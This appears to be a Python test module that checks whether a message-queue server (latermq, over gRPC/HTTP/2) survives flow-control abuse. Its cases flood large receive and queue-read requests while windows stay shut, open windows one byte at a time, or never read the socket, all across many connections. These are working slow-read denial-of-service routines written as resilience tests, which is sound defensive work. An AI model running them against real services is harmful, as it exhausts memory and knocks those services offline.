"""Answers that are asked for and not taken: number 9."""

import asyncio
from collections.abc import Callable
from contextlib import AsyncExitStack
from typing import Any, Final

from abuse.attacks.requests import REFLECTION, SEND
from abuse.peer import MESSAGING, SHUT, Peer, Target, framed
from abuse.siege import WORKER, Attack, Case
from latermq_h2.http2 import frames
from latermq_proto.latermq.v1 import queue_pb2
from support import wire_requests

MIB: Final = 1 << 20
TOPIC: Final = "large"
MESSAGES: Final = 32
MESSAGE_BYTES: Final = 2 * MIB - 1_000
HOLD_S: Final = 3.0
RECEIVE: Final = f"{MESSAGING}/ReceiveMessage"


async def fill(target: Target) -> str:
    """64 MiB in one topic."""
    async with await Peer.open(target) as peer:
        body = bytes(MESSAGE_BYTES)
        for _ in range(MESSAGES // 4):
            request = wire_requests.send([wire_requests.message(TOPIC, body) for _ in range(4)])
            stream_id = peer.call(SEND)
            await peer.send(stream_id, framed(request.SerializeToString()), end=True)
            answer = await peer.answered(stream_id, 30.0)
            assert answer.said == "OK", answer.said
    return ""


def receive(number: int) -> bytes:
    request = wire_requests.receive(TOPIC, f"slow-{number}", wait_ms=100, invisible_ms=10_000)
    return request.SerializeToString()


def read_queue(number: int) -> bytes:
    request = queue_pb2.ReadQueueRequest(
        topic=TOPIC, queue_id=number % 4, end_offset=MESSAGES, columns=["body"]
    )
    return request.SerializeToString()


def unread(path: str, request: Callable[[int], bytes], *, calls: int, connections: int) -> Attack:
    """Answers for which no window is opened."""

    async def attack(target: Target) -> str:
        async with AsyncExitStack() as stack:
            opened = []
            for place in range(connections):
                peer = await stack.enter_async_context(
                    await Peer.open(target, settings=SHUT, grants=False)
                )
                opened.append(peer)
                for number in range(calls):
                    peer.ask(path, request(place * calls + number))
                await peer.flush()
            await asyncio.sleep(HOLD_S)
            return opened[0].said

    return attack


def in_bites(path: str, request: Callable[[int], bytes], *, calls: int) -> Attack:
    """Large answers, for which windows are opened by a byte."""

    async def attack(target: Target) -> str:
        loop = asyncio.get_running_loop()
        async with await Peer.open(target, settings=SHUT, grants=False) as peer:
            peer.write(frames.window_update(0, 16 * MIB))
            streams = [peer.ask(path, request(number)) for number in range(calls)]
            bite = b"".join(frames.window_update(each, 1) for each in streams) * 10
            until_s = loop.time() + HOLD_S
            while loop.time() < until_s and await peer.flush() and not peer.goaway:
                peer.write(bite)
                await asyncio.sleep(0.001)
            return peer.said

    return attack


def never_read(path: str, request: Callable[[int], bytes], *, calls: int) -> Attack:
    """Open windows, and a socket from which nothing is taken."""

    async def attack(target: Target) -> str:
        async with AsyncExitStack() as stack:
            for place in range(4):
                peer = await stack.enter_async_context(await Peer.open(target, reads=False))
                for number in range(calls):
                    peer.ask(path, request(place * calls + number))
            await asyncio.sleep(HOLD_S)
        return "not read"

    return attack


def reflected(_: int) -> bytes:
    """The file that describes the messaging service."""
    name = b"apache.rocketmq.v2.MessagingService"
    return b"\x22" + bytes((len(name),)) + name


def nothing(_: int) -> bytes:
    return b""


def case(**fields: Any) -> Case:
    return Case(number=9, prepare=fill, by=WORKER, **fields)


CASES: Final = (
    case(
        name="unread-receives",
        what="20 receives of 64 MiB on one connection whose window is shut",
        attack=unread(RECEIVE, receive, calls=20, connections=1),
    ),
    case(
        name="unread-receives-many-connections",
        what="40 of them on 20 connections",
        attack=unread(RECEIVE, receive, calls=2, connections=20),
    ),
    case(
        name="never-read-receives",
        what="20 of them on 4 connections with open windows, from which nothing is read",
        attack=never_read(RECEIVE, receive, calls=5),
        always=False,
    ),
    case(
        name="receives-in-bites",
        what="20 of them, read by a byte",
        attack=in_bites(RECEIVE, receive, calls=20),
        always=False,
    ),
    case(
        name="unread-queues",
        what="100 reads of whole queues with a shut window",
        attack=unread("/latermq.v1.Queues/ReadQueue", read_queue, calls=20, connections=5),
        always=False,
    ),
    Case(
        number=9,
        name="unread-refusals",
        what="20,000 calls whose refusals are not read",
        attack=unread(RECEIVE, receive, calls=1_000, connections=20),
        always=False,
    ),
    Case(
        number=9,
        name="unread-reflection",
        what="20,000 reflection calls whose answers are not read",
        attack=unread(REFLECTION, reflected, calls=1_000, connections=20),
        always=False,
    ),
)
